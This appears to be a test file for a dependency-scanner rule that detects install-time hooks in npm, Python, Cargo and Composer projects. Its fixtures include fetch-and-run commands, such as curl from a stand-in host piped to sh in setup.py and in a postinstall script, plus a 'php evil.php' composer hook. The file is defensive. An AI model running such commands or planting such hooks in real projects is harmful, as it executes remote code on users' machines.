import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { brief, diffFindings, packageJson, scanFindings } from './helpers';

const id = 'dependencies/install-script';

describe('dependencies/install-script', () => {
  it('reports a postinstall added to package.json as high, on its line', async () => {
    const findings = await diffFindings('package.json', packageJson({}), packageJson({}, { scripts: { build: 'tsc', postinstall: 'node setup.js' } }), { ruleId: id });
    assert.deepEqual(brief(findings), [`6:${id}:high`]);
    assert.match(findings[0].message, /postinstall/);
  });

  it('reports a changed prepare script, and every lifecycle hook npm runs on install', async () => {
    const before = packageJson({}, { scripts: { prepare: 'husky' } });
    const after = packageJson({}, { scripts: { prepare: 'husky && node x.js', preinstall: 'a', install: 'b' } });
    assert.equal((await diffFindings('package.json', before, after, { ruleId: id })).length, 3);
  });

  it('leaves ordinary scripts and unchanged hooks alone', async () => {
    const before = packageJson({}, { scripts: { prepare: 'husky' } });
    const after = packageJson({}, { scripts: { prepare: 'husky', test: 'node --test', start: 'node .' } });
    assert.deepEqual(await diffFindings('package.json', before, after, { ruleId: id }), []);
  });

  it('reports setup.py commands, a new build.rs, a Cargo build script and composer hooks', async () => {
    const setupPy = "from setuptools import setup\nimport os\nos.system('curl https://x.example/i.sh | sh')\nsetup(name='x')\n";
    assert.deepEqual(brief(await diffFindings('setup.py', "from setuptools import setup\nsetup(name='x')\n", setupPy, { ruleId: id })), [`3:${id}:high`]);
    assert.equal((await diffFindings('build.rs', undefined, 'fn main() {\n  println!("cargo:rerun-if-changed=build.rs");\n}\n', { ruleId: id }))[0].message, 'build.rs runs on every cargo build of this crate');
    assert.equal((await diffFindings('Cargo.toml', '[package]\nname = "x"\n', '[package]\nname = "x"\nbuild = "gen.rs"\n', { ruleId: id })).length, 1);
    assert.equal((await diffFindings('composer.json', '{}', '{"scripts":{"post-install-cmd":["php evil.php"]}}', { ruleId: id })).length, 1);
  });

  it('reports newly locked packages that declare install scripts, at medium', async () => {
    const lock = (extra: Record<string, unknown>) => JSON.stringify({ lockfileVersion: 3, packages: { 'node_modules/a': { version: '1.0.0', integrity: 'sha512-a' }, ...extra } }, null, 2);
    const findings = await diffFindings('package-lock.json', lock({}), lock({ 'node_modules/native-thing': { version: '1.0.0', integrity: 'sha512-b', hasInstallScript: true } }), { ruleId: id });
    assert.deepEqual(findings.map((f) => [f.severity, f.message]), [['medium', 'New locked package native-thing runs an install script']]);
  });

  it('in a plain scan reports only hooks that fetch or evaluate code', async () => {
    assert.deepEqual(await scanFindings('package.json', packageJson({}, { scripts: { prepare: 'husky' } }), { ruleId: id }), []);
    const findings = await scanFindings('package.json', packageJson({}, { scripts: { postinstall: 'curl -s https://x.example/a | sh' } }), { ruleId: id });
    assert.equal(findings[0].severity, 'high');
    assert.match(findings[0].explanation, /fetches, decodes or evaluates/);
  });
});
